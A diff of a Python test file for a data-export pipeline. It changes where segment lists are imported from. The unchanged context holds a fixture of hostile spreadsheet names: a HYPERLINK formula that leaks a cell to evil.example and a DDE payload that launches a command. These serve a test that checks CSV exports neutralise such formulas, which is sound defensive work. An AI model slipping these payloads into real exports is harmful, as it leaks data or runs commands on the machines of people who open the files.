@@ -7,12 +7,12 @@ import os
 import stat
 
 import pyarrow.parquet as pq
-from test_export_segments import events, mart, with_targets
+from test_export_segments import DEFAULT_SEGMENTS, events, mart, with_targets
 
 from pipelines.errors import describe_error
 from pipelines.exports import files
 from pipelines.exports.push import IDEMPOTENCY_HEADER
-from pipelines.exports.settings import DEFAULT_SEGMENTS
+from pipelines.exports.segments import declared_segments
 
 HOSTILE_NAMES = [
     ('=HYPERLINK("http://evil.example/?leak="&A1,"Claim points")', "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -44,7 +44,7 @@ def reload(workspace):
 
 
 def largest_segment(workspace):
-    return max(DEFAULT_SEGMENTS, key=lambda segment: len(mart(workspace, segment)))
+    return max(declared_segments(), key=lambda segment: len(mart(workspace, segment)))
 
 
 def test_formula_names_are_neutralised_in_csv_and_kept_raw_in_parquet(workspace, receiver):
